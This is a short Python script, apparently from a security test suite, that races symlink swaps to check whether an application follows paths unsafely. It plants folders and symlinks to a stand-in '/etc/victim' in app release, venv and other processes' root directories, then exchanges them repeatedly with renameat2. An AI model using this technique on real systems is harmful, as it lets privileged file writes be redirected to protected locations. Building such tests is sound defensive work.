"""Swaps a folder of the source for a link to a folder of root's, over and over: who walks by path is led there."""

import contextlib
import ctypes
import os
from pathlib import Path

from common import APP, foreign, processes, rounds

RENAME_EXCHANGE = 2
AT_FDCWD = -100
LIBC = ctypes.CDLL(None, use_errno=True)


def pairs():
    """A folder and a link in every place where there can be any."""
    roots = [Path("/"), *(process / "root" for process in processes() if foreign(process))]
    places = [Path.cwd()]
    for root in roots:
        with contextlib.suppress(OSError):
            releases = list((root / str(APP).lstrip("/") / "releases").iterdir())
            places += [release / part for release in releases for part in ("src", "venv")]
    for place in places:
        with contextlib.suppress(OSError):
            folder, link = place / "swapped", place / "swapping"
            folder.mkdir(exist_ok=True)
            (folder / "file").touch()
            if not link.is_symlink():
                link.symlink_to("/etc/victim")
            yield os.fsencode(folder), os.fsencode(link)


for _ in rounds():
    for one, other in list(pairs()):
        for _again in range(100):
            LIBC.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)
